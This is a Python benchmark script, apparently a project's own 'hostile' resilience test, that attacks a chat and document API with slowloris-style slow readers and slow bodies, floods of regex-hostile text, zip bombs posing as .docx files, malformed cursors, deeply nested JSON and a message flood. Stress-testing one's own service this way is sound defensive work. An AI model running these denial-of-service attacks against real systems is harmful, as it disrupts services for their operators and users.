"""The attacker of `bench hostile`: a process that knows an address, a channel and a key, and prints what it was answered.

python -m benchmarks.hostile_attacks '{"url": …}'
"""

import asyncio
import io
import json
import socket
import sys
import time
import zipfile
from collections import Counter
from dataclasses import dataclass
from functools import cache
from itertools import cycle
from typing import Any
from urllib.parse import urlsplit

import aiohttp

from benchmarks.hostile_process import Requests
from benchmarks.load import unlimited_session

VISITORS = "/api/v1/visitor/conversations/"
SLOW_READERS = 50
FLOOD_MESSAGES = 500
FLOODERS = 20
PAUSE_SECONDS = 0.2
FLOODS = ("\n" * 8000, "<!---->" * 1000, "<a " * 2600, "1" * 8000, "一" * 3900, ". " * 3900, "（" * 3900)
CURSORS = ("99999999999999999999999-1", "²-1", "-1", "1-", "0-0\x00", "9" * 5000, "1-1-1", "NaN")
DEEP_OBJECT = '{"message":' * 20_000 + "1" + "}" * 20_000


@dataclass(frozen=True)
class Target:
    url: str
    channel: str
    token: str
    slug: str
    seconds: float


class Attacker(Requests):
    def __init__(self, target: Target, session: aiohttp.ClientSession) -> None:
        super().__init__(target.url, target.seconds, session)
        self.target, self.staff = target, {"Authorization": f"Bearer {target.token}"}

    async def ask(self, attack: str, method: str, path: str, **options: Any) -> dict[str, Any]:
        return (await self.send(attack, method, path, **options))[1] or {}

    async def visitor(self) -> tuple[str, dict[str, str]]:
        """A conversation of an anonymous visitor: its address and the header that opens it."""
        body = {"channel": self.target.slug, "message": "Hi"}
        start = await self.ask("start", "POST", VISITORS, json=body)
        return f"{VISITORS}{start['conversation']}", {"Authorization": f"Visitor {start['token']}"}

    async def upload_document(self, attack: str, content: bytes, name: str) -> None:
        collections = await self.ask("list", "GET", "/api/v1/collections/", headers=self.staff)
        form = aiohttp.FormData({"collection": collections["results"][0]["id"]})
        form.add_field("file", content, filename=name)
        await self.ask(attack, "POST", "/api/v1/documents/", data=form, headers=self.staff)


async def slow_readers(attacker: Attacker) -> None:
    """Sockets that ask for a large file at a public address and read nothing."""
    address, headers = await attacker.visitor()
    form = aiohttp.FormData()
    form.add_field("file", b"\x89PNG\r\n\x1a\n" + bytes(9 * 2**20), filename="wall.png")
    attachment = await attacker.ask("upload", "POST", f"{address}/attachments/", data=form, headers=headers)
    parts = urlsplit(attacker.target.url)
    path = urlsplit(attachment["url"]).path
    request = f"GET {path} HTTP/1.1\r\nHost: {parts.netloc}\r\n\r\n".encode()
    loop, sockets = asyncio.get_running_loop(), []
    for _ in range(SLOW_READERS):
        reader = socket.socket()
        reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        reader.setblocking(False)
        await loop.sock_connect(reader, (parts.hostname, parts.port))
        await loop.sock_sendall(reader, request)
        sockets.append(reader)
    await asyncio.sleep(attacker.until - time.monotonic())
    for reader in sockets:
        reader.close()
    attacker.answers["slow_readers 0"] += SLOW_READERS


async def slow_bodies(attacker: Attacker) -> None:
    """Requests whose body comes a byte a second."""
    parts = urlsplit(attacker.target.url)
    head = f"POST {VISITORS} HTTP/1.1\r\nHost: {parts.netloc}\r\nContent-Length: 100000\r\n\r\n"
    connections = [await asyncio.open_connection(parts.hostname, parts.port) for _ in range(SLOW_READERS)]
    for _, writer in connections:
        writer.write(head.encode())
    while attacker.is_on:
        for _, writer in connections:
            if not writer.is_closing():
                writer.write(b"{")
        await asyncio.sleep(1)
    for _, writer in connections:
        writer.close()


async def pattern_floods(attacker: Attacker) -> None:
    """What looks for something in a text meets long runs of the same."""
    address, headers = await attacker.visitor()
    for number, flood in enumerate(cycle(FLOODS)):
        if not attacker.is_on:
            return
        body = {"text": flood}
        await attacker.ask("flood_text", "POST", f"{address}/messages/", json=body, headers=headers)
        await attacker.upload_document("flood_document", flood.encode() * 10, f"flood{number}.html")
        await asyncio.sleep(1)


async def bombs(attacker: Attacker) -> None:
    """Archives of a few hundred bytes that unpack to hundreds of megabytes."""
    address, headers = await attacker.visitor()
    while attacker.is_on:
        for name in ("mimetype", "word/document.xml"):
            form = aiohttp.FormData()
            form.add_field("file", await asyncio.to_thread(_bomb, name), filename="bomb.docx")
            await attacker.ask("bomb_visitor", "POST", f"{address}/attachments/", data=form, headers=headers)
        bomb = await asyncio.to_thread(_bomb, "word/document.xml")
        await attacker.upload_document("bomb_document", bomb, "bomb.docx")
        await asyncio.sleep(2)


async def cursors(attacker: Attacker) -> None:
    """Cursors and bodies that a parser may believe."""
    address, headers = await attacker.visitor()
    timeout, as_json = aiohttp.ClientTimeout(total=2), {"Content-Type": "application/json"}
    for cursor in cycle(CURSORS):
        if not attacker.is_on:
            return
        cursor_headers = {**headers, "Last-Event-ID": cursor.replace("\x00", "")}
        await attacker.ask("cursor", "GET", f"{address}/events/", headers=cursor_headers, timeout=timeout)
        page = "/api/v1/jobs/"
        await attacker.ask("page_cursor", "GET", page, params={"cursor": cursor}, headers=attacker.staff)
        await attacker.ask("nested", "POST", VISITORS, data=DEEP_OBJECT, headers=as_json)
        await asyncio.sleep(PAUSE_SECONDS)


async def flood(attacker: Attacker) -> None:
    """One organisation sends 500 messages at once."""
    numbers = iter(range(FLOOD_MESSAGES))

    async def sender() -> None:
        for number in numbers:
            body = {"channel": attacker.target.channel, "message": f"How long does delivery take? {number}"}
            await attacker.ask("flood", "POST", "/api/v1/conversations/", json=body, headers=attacker.staff)

    await asyncio.gather(*(sender() for _ in range(FLOODERS)))


ATTACKS = (slow_readers, slow_bodies, pattern_floods, bombs, cursors, flood)


@cache
def _bomb(name: str, megabytes: int = 300) -> bytes:
    """Made once, before the attack: what it costs to make is not what it costs to receive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open(name, "w") as entry:
            for _ in range(megabytes):
                entry.write(bytes(2**20))
    return buffer.getvalue()


async def attack(target: Target) -> Counter[str]:
    for member in ("mimetype", "word/document.xml"):
        _bomb(member)
    async with unlimited_session(30) as session:
        attacker = Attacker(target, session)
        outcomes = await asyncio.gather(*(each(attacker) for each in ATTACKS), return_exceptions=True)
    for each, error in zip(ATTACKS, outcomes, strict=True):
        if isinstance(error, BaseException):
            sys.stderr.write(f"{each.__name__} gave up: {error!r}\n")
    return attacker.answers


if __name__ == "__main__":
    print(json.dumps(asyncio.run(attack(Target(**json.loads(sys.argv[1]))))))
